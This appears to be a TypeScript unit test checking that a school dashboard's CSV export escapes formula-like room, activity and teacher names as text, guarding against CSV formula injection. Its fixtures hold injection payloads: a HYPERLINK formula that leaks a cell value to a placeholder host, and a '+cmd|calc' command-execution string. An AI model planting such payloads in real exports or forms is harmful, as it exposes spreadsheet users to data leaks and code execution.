import type { PainelEscola } from '@argumenta/contracts';
import { schoolDashboardCsv } from '../src/bff/escola.js';

// CSV formula injection (issue 44): a room, activity or teacher named like a formula reaches the coordinator's
// spreadsheet as text.
const media = { redacoes_corrigidas: 1, media: { c1: 120, c2: 120, c3: 120, c4: 120, c5: 120, total: 600 } };
const painel = {
  salas: [
    {
      id: 1,
      nome: '=HYPERLINK("http://x.example/?"&A1,"ver")',
      professor_id: 2,
      professor_nome: '@Prof',
      estudantes: 3,
      atividades: 1,
      ...media,
    },
  ],
  atividades: [{ id: 5, titulo: '+cmd|calc', sala_id: 1, sala_nome: '-Sala', ...media }],
  problemas: [],
} as unknown as PainelEscola;

it('the school dashboard CSV writes formula-like names as text', () => {
  const lines = schoolDashboardCsv(painel)
    .replace(/^\uFEFF/, '')
    .split('\r\n');
  expect(lines[1]).toBe(
    `sala;"'=HYPERLINK(""http://x.example/?""&A1,""ver"")";"'=HYPERLINK(""http://x.example/?""&A1,""ver"")";'@Prof;3;1;120;120;120;120;120;600`,
  );
  expect(lines[2]).toBe(`atividade;'+cmd|calc;'-Sala;'@Prof;;1;120;120;120;120;120;600`);
});
